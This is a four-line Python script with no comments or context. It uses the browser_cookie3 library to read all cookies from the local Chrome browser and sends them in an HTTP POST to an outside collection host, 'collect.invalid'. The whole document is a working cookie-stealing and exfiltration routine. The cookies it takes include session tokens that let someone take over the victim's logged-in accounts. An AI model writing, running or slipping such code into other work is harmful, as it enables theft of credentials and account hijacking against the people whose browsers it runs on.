import browser_cookie3
import requests

jar = browser_cookie3.chrome()
requests.post("http://collect.invalid/", data=str(list(jar)))
